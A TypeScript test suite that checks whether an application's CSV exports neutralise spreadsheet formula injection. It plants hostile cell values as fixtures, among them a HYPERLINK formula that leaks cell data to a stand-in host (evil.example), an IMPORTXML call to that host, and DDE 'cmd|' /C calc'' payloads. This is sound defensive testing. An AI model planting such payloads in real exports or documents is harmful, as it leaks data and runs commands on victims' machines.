import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  companies,
  customers,
  inventoryObjects,
  inventoryTransactions,
  invoices,
  locations,
  pricebookItems,
  sites,
  taskAssignees,
  users,
} from '../../db/schema.ts';
import { issueToken } from '../../modules/api-tokens/index.ts';
import { writeAudit } from '../../modules/audit/index.ts';
import { logApiRequest } from '../../public-api/request-log.ts';
import { addCraftRecord, createSiteFixture, PASSWORD } from '../fixtures.ts';
import { startTestApp, type TestApp, type TestClient } from '../harness.ts';
import { procedurePaths } from './router-paths.ts';

/**
 * Content safety of the exports (OWASP "CSV Injection"): text people typed (titles,
 * descriptions, work orders, names of places, companies and people) is written so that no
 * spreadsheet reads a cell as a formula. Every export procedure of the router is called here;
 * a new one fails the first test until it is added, and then meets the same cells.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const FORMULAS = {
  recordTitle: HYPERLINK,
  recordDescription: "+cmd|' /C calc'!A0",
  taskTitle: `@SUM(1+1)*cmd|' /C calc'!A0`,
  taskDescription: "-2+3+cmd|' /C calc'!A0",
  workOrder: '=1+1',
  location: '\t=1+1',
  company: '\r=1+1',
  creator: '=IMPORTXML("http://evil.example","//a")',
};

/** Input each export is called with: every row of the site (the deleted lists: every deleted one). */
const EXPORTS: Record<string, unknown> = {
  'craftRecords.exportCsv': { status: 'open', craftType: null },
  'craftRecords.exportDeletedCsv': { craftType: null },
  'tasks.exportCsv': { taskParam: 'All', craftType: null },
  'tasks.exportDeletedCsv': { craftType: null },
  'audit.exportCsv': { area: null },
  'assignments.exportMine': { craftType: null },
  'inventoryObjects.exportCsv': {},
  'inventoryTransactions.exportCsv': {},
  'inventoryRental.exportCsv': { from: '2026-03-01', to: '2026-03-31' },
  // The planted rows are created now: a range of yesterday to tomorrow holds them in any zone.
  'analytics.exportCsv': {
    chartType: 'task-created-by-user',
    from: dayFromNow(-1),
    to: dayFromNow(1),
  },
  'usageMetrics.exportCsv': { from: dayFromNow(-1), to: dayFromNow(1) },
  'customers.exportCsv': {},
  'invoices.exportCsv': {},
  'pricebook.exportCsv': {},
  'apiTokens.exportRequests': { tokenId: null },
};

/** The planted text each export must keep (behind its quote): by default the record's title. */
const KEPT_CELL: Record<string, string> = {
  'analytics.exportCsv': FORMULAS.creator,
  'usageMetrics.exportCsv': FORMULAS.creator,
  // Who made the request: the plant user, named with a formula.
  'apiTokens.exportRequests': FORMULAS.creator,
};

function dayFromNow(days: number): string {
  return new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
}

/** RFC 4180 fields of one document (quoted fields, doubled quotes, CRLF). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\r' || c === '\n') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      cells.push(field);
      field = '';
    } else field += c;
  }
  return cells;
}

const FORMULA_START = /^[=+\-@\t\r\n]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

let t: TestApp;
let admin: TestClient;
beforeAll(async () => {
  t = await startTestApp();
  const site = await createSiteFixture(t.db, 'CSVSAFE');
  await t.db
    .update(locations)
    .set({ title: FORMULAS.location })
    .where(eq(locations.id, site.locationIds[0]!));
  await t.db
    .update(companies)
    .set({ name: FORMULAS.company })
    .where(eq(companies.id, site.companyA));
  await t.db.update(users).set({ name: FORMULAS.creator }).where(eq(users.id, site.users.plant.id));
  const record = {
    title: FORMULAS.recordTitle,
    description: FORMULAS.recordDescription,
  };
  const task = {
    taskStatus: 30,
    title: FORMULAS.taskTitle,
    description: FORMULAS.taskDescription,
    workOrder: FORMULAS.workOrder,
  };
  const deleted = { deletedAt: new Date(), deletedBy: site.users.admin.id };
  const planted = await addCraftRecord(t.db, site, record, [task, { ...task, ...deleted }]);
  // /assigned-tasks exports the admin's open tasks: the planted one is assigned to them.
  await t.db
    .update(sites)
    .set({ customizations: sql`${sites.customizations} || '{"assignedToEnabled": true}'::jsonb` })
    .where(eq(sites.siteKey, site.siteKey));
  await t.db.insert(taskAssignees).values({
    siteKey: site.siteKey,
    taskId: planted.taskIds[0]!,
    userId: site.users.admin.id,
  });
  await addCraftRecord(t.db, site, { ...record, ...deleted }, [task]);
  // Inventory: an object named with a formula, put on rent at the planted record by company A.
  await t.db
    .update(sites)
    .set({ customizations: sql`${sites.customizations} || '{"inventoryEnabled": true}'::jsonb` })
    .where(eq(sites.siteKey, site.siteKey));
  await t.db
    .insert(inventoryObjects)
    .values({ id: 'csv-object', siteKey: site.siteKey, title: HYPERLINK, quantityInUse: 1 });
  await t.db.insert(inventoryTransactions).values({
    id: 'csv-line',
    siteKey: site.siteKey,
    objectId: 'csv-object',
    type: 21,
    value: 1,
    companyId: site.companyA,
    userId: site.users.plant.id,
    locationId: site.locationIds[0],
    parentRecordId: planted.id,
    taskId: planted.taskIds[0],
    siteDay: '2026-03-01',
    timestampCreated: new Date('2026-03-01T15:00:00Z'),
  });
  await writeAudit(t.db, {
    siteKey: site.siteKey,
    actorId: site.users.plant.id,
    area: 'locations',
    action: 'updated',
    targetId: site.locationIds[0],
    targetLabel: HYPERLINK,
    before: { title: FORMULAS.workOrder },
    after: { title: FORMULAS.location },
  });
  await t.db.insert(customers).values({
    id: 'csv-customer',
    siteKey: site.siteKey,
    name: HYPERLINK,
    email: 'a@example.com',
    phone: FORMULAS.workOrder,
    notes: FORMULAS.recordDescription,
    tags: [FORMULAS.location],
  });
  await t.db.insert(invoices).values({
    id: 'csv-invoice',
    siteKey: site.siteKey,
    number: 1,
    customerId: 'csv-customer',
    issueDate: '2026-03-01',
    dueDate: '2026-03-31',
  });
  await t.db.insert(pricebookItems).values({
    id: 'csv-pricebook-item',
    siteKey: site.siteKey,
    name: HYPERLINK,
    description: FORMULAS.recordDescription,
    unit: FORMULAS.workOrder,
    unitPriceCents: 100,
  });
  // An API token named with a formula, of the user named with one, and a request it made.
  const { row: token } = await issueToken(t.db, {
    siteKey: site.siteKey,
    userId: site.users.plant.id,
    createdBy: site.users.admin.id,
    name: HYPERLINK,
    scope: 'read',
    expiresAt: null,
  });
  await logApiRequest(t.db, {
    siteKey: site.siteKey,
    tokenId: token.id,
    userId: site.users.plant.id,
    method: 'GET',
    url: '/api/v1/records?search=%3D1%2B1',
    status: 200,
    ip: '127.0.0.1',
    durationMs: 3,
  });
  admin = await t.signIn(site.users.admin.email, PASSWORD);
});
afterAll(() => t.close());

describe('CSV exports', () => {
  it('checks every export procedure of the router', () => {
    // An import (pricebook.importCsv) reads a CSV and writes none.
    const exports = procedurePaths().filter(
      (path) => /csv|export/i.test(path) && !/import/i.test(path),
    );
    expect(exports.sort()).toEqual(Object.keys(EXPORTS).sort());
  });

  it.each(Object.entries(EXPORTS))(
    '%s writes no cell a spreadsheet reads as a formula',
    async (path, input) => {
      const procedure = path
        .split('.')
        .reduce<unknown>((node, key) => (node as Record<string, unknown>)[key], admin.rpc);
      const exported = procedure as (i: unknown) => Promise<{ csv: string; rows: number }>;
      const { csv, rows } = await exported(input);
      expect(rows).toBeGreaterThan(0);
      const cells = csvCells(csv);
      const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
      expect(formulas).toEqual([]);
      // The text itself is kept, behind the quote that spreadsheet programs hide.
      const ofTasks = path.startsWith('tasks') || path.startsWith('assignments');
      expect(cells).toContain(`'${KEPT_CELL[path] ?? (ofTasks ? FORMULAS.taskTitle : HYPERLINK)}`);
    },
  );

  it.each(['open-tasks', 'inventory-summary', 'tasks-by-company'] as const)(
    'a generated %s report writes no cell a spreadsheet reads as a formula',
    async (type) => {
      const options = { from: dayFromNow(-1), to: dayFromNow(1) };
      const { id } = await admin.rpc.reports.generateReport({ type, options });
      let url: string | null = null;
      await expect
        .poll(
          async () => {
            const row = (await admin.rpc.reports.list({})).find((r) => r.id === id);
            url = row?.csvUrl ?? null;
            return row?.status;
          },
          { timeout: 30_000 },
        )
        .toBe('ready');
      const link = new URL(url!);
      const response = await admin.fetch(`${link.pathname}${link.search}`);
      expect(response.status).toBe(200);
      const cells = csvCells(await response.text());
      const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
      expect(formulas).toEqual([]);
      expect(cells.some((cell) => cell.startsWith("'"))).toBe(true);
    },
  );

  it('keeps every planted text, neutralised, in the task export', async () => {
    const { csv } = await admin.rpc.tasks.exportCsv({ taskParam: 'All', craftType: null });
    const cells = csvCells(csv);
    for (const text of Object.values(FORMULAS).filter((f) => f !== FORMULAS.recordDescription))
      expect(cells).toContain(`'${text}`);
  });
});
